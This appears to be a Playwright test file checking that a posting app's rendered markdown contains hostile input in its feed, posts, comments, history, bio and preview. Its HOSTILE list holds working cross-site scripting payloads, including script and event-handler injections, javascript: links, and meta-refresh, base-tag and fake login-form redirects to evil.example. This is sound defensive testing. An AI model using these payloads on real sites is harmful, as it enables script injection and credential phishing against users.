import type { Page } from '@playwright/test'
import { expectNoSidewaysScroll } from '../accessibility.ts'
import { expect, test } from '../test.ts'

const LONG = 'x'.repeat(2_000)

/** A successful attack sets `hacked`, loads something, or changes style or layout. */
const HOSTILE = [
  '<script>window.hacked=1</script>',
  '<scr<script>ipt>window.hacked=1</scr</script>ipt>',
  '<img src=x onerror="window.hacked=1">',
  '<svg/onload=window.hacked=1><animate onbegin=window.hacked=1 attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<style>*{position:fixed;inset:0;background:red}</style>',
  '<div style="position:fixed;inset:0;z-index:9999">over everything</div>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/a.css">',
  '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
  '<a id="root" name="main" href="#">clobbers</a> <p id="main">clobbers</p>',
  '<b>unclosed <i>unclosed <div><p><table><tr><td>',
  '</p></div></article></li></ul></main></body></html>',
  '<!-- <![CDATA[ <? ?> --!> ]]>',
  '[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1) [c](java&#x0A;script:window.hacked=1)',
  '[a](data:text/html,<script>parent.hacked=1</script>) [b](vbscript:x) [c](//evil.example/) [d](\\\\evil.example)',
  '![a](javascript:window.hacked=1) ![b](data:image/svg+xml;base64,PHN2Zy8+) ![c](https://evil.example/a.png)',
  '[a](https://x.example/"onmouseover="window.hacked=1) [b](<https://x.example/" onclick=window.hacked=1>)',
  '<javascript:window.hacked=1> <https://x.example/"onclick="window.hacked=1>',
  '&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;img src=x onerror=window.hacked=1&#62; &#x3c;b&#x3e;',
  '```"><script>window.hacked=1</script>\n</code></pre><img src=x onerror=window.hacked=1>\n```',
  '```js" onclick="window.hacked=1\n<img src=x onerror=window.hacked=1>\n```',
  '| <img src=x onerror=window.hacked=1> | <script>window.hacked=1</script> |\n|:-:|-:|\n| `</td><script>` | "> |',
  `${'> '.repeat(1_000)}deep in quotes`,
  `${'- '.repeat(1_000)}deep in lists`,
  `${'*'.repeat(1_500)}a${'*'.repeat(1_500)} ${'['.repeat(1_000)}`,
  `${LONG} \`${LONG}\`\n\n# ${LONG}\n\n> ${LONG}`,
  `\`\`\`\n${LONG}\n\`\`\`\n\n| ${LONG} |\n|---|\n| a |`,
  '@<script>window.hacked=1</script> #"><img/src=x/onerror=window.hacked=1> @ada"onclick="x #a"b',
  '\u202egnp.exe \u2067 ![\u202e](https://evil.example/\u202e)',
  '[x]: javascript:window.hacked=1\n\n[x] [y][x] ![x]',
]

async function watch(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const violations: string[] = []
    Object.assign(window, { violations })
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
      violations.push(`${violatedDirective} ${blockedURI}`)
    })
  })
  page.on('dialog', (dialog) => {
    throw new Error(`A dialog opened: ${dialog.message()}`)
  })
}

async function expectContained(page: Page): Promise<void> {
  const violations = await page.evaluate(() => {
    const faults: string[] = []
    // Posts that are far away have no layout yet.
    const sheet = new CSSStyleSheet()
    sheet.replaceSync('.skip-offscreen { content-visibility: visible !important }')
    document.adoptedStyleSheets.push(sheet)
    if ('hacked' in window) faults.push('a script ran')
    faults.push(...((window as { violations?: string[] }).violations ?? []))
    for (const root of document.querySelectorAll('.rendered-html')) {
      const box = root.getBoundingClientRect()
      for (const element of root.querySelectorAll('*')) {
        const isOurs = element.matches('.code-copy, .code-copy *')
        if (
          !isOurs &&
          !element.matches(
            'p,br,hr,h3,h4,h5,h6,strong,em,s,blockquote,ul,ol,li,table,thead,tbody,tr,th,td,pre,code,span,a,img,div',
          )
        ) {
          faults.push(`an element ${element.outerHTML.slice(0, 80)}`)
        }
        for (const { name, value } of element.attributes) {
          const isFine =
            /^(class|href|rel|target|src|alt|loading|start|data-language|type|tabindex|role|aria-live|aria-label)$/
          if (!isFine.test(name)) faults.push(`an attribute ${name}=${value}`)
        }
        if (element instanceof HTMLAnchorElement && !/^(https?|mailto):$/.test(element.protocol)) {
          faults.push(`a link ${element.href}`)
        }
        if (element instanceof HTMLImageElement && !element.src.startsWith(`${location.origin}/pictures/`)) {
          faults.push(`a picture ${element.src}`)
        }
        const { position, zIndex } = getComputedStyle(element)
        if (position !== 'static' || zIndex !== 'auto') faults.push(`a position ${position}`)
        const isScrolled = element.closest('pre, .table-box') && !element.matches('pre, .table-box')
        const { left, right, width } = element.getBoundingClientRect()
        if (!isScrolled && width > 0 && (left < box.left - 1 || right > box.right + 1)) {
          faults.push(`outside of its box: ${element.outerHTML.slice(0, 80)}`)
        }
      }
    }
    return faults
  })
  expect(violations).toEqual([])
  await expectNoSidewaysScroll(page)
}

test('hostile texts stay in their place in feed, post, comment, history and bio', { tag: '@all' }, async ({
  page,
  member,
  baseURL,
}) => {
  test.setTimeout(120_000)
  await page.setViewportSize({ width: 390, height: 844 })
  await watch(page)
  const evil = await member('Eve')
  await evil.withProfile({ bio: HOSTILE.slice(0, 24).join('\n\n') })
  for (const text of HOSTILE) await evil.writePost(text)
  const id = await evil.writePost('The last post')
  for (const text of HOSTILE) await evil.send('POST', `/api/posts/comment/${id}`, { text })
  await evil.send('PUT', `/api/posts/${id}`, { text: HOSTILE.slice(0, 24).join('\n\n') })

  await evil.open(page, '/posts')
  await expect(page.getByRole('article').nth(HOSTILE.length)).toBeAttached()
  await expectContained(page)
  await expect(page).toHaveURL(`${baseURL}/posts`)

  await page.goto(`/posts/${id}`)
  await expect(page.getByRole('article')).toHaveCount(HOSTILE.length + 1)
  const folded = page.getByRole('button', { name: 'Show more' })
  while ((await folded.count()) > 0) await folded.first().click()
  await expectContained(page)
  await page.getByRole('button', { name: 'History' }).click()
  await expect(page.getByRole('region', { name: 'History' }).getByRole('listitem')).toHaveCount(2)
  await page.getByText('Full text').click()
  await expectContained(page)
  await expect(page).toHaveURL(`${baseURL}/posts/${id}`)

  await page.goto(`/profile/${evil.id}`)
  await expect(page.getByRole('heading', { name: "Eve's Bio" })).toBeVisible()
  await expectContained(page)
  await expect(page).toHaveURL(`${baseURL}/profile/${evil.id}`)
})

test('hostile texts stay in their place in the preview', { tag: '@all' }, async ({
  page,
  member,
  baseURL,
}) => {
  test.setTimeout(120_000)
  await watch(page)
  const evil = await member('Eve')
  await evil.open(page, '/posts')
  const write = page.getByRole('tab', { name: 'Write' })
  const preview = page.getByRole('tab', { name: 'Preview' })
  for (const text of HOSTILE) {
    await page.getByLabel('Say Something...').fill(text)
    await preview.click()
    await expect(page.getByRole('tabpanel', { name: 'Preview' }).locator('.rendered-html')).not.toBeEmpty()
    await expectContained(page)
    await write.click()
  }
  await expect(page).toHaveURL(`${baseURL}/posts`)
})
